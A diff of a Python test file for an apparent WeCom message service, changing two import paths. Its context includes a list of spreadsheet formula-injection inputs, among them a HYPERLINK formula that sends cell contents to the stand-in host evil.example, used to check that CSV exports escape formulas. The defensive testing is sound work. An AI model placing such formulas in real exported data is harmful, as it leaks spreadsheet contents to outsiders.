@@ -15,7 +15,7 @@ import pytest
 
 from conftest import API_TOKEN, ROOT
 from peer import CORP_ID, WecomPeer
-from wecomd import simulate
+from wecomd.wecom import simulate
 
 # What a spreadsheet would run as a formula, and what it shows as text after the OWASP escape.
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3", "+1", "@SUM(A1:A9)", "\tx", "\rx"]
@@ -92,7 +92,7 @@ def test_dashboard_csv_download_escapes_formulas(stored):
 def fill(directory, count: int, user: str = "zhangsan", msgtype: str = "text", app: str = "helpdesk",
          text: str = "第%d条消息", padding: int = 0) -> None:
     """`count` inbound messages stored straight into the config's SQLite file."""
-    from wecomd.messages import Message
+    from wecomd.wecom.messages import Message
     from wecomd.store import Store
 
     store = Store("wecomd.db", base_dir=directory)
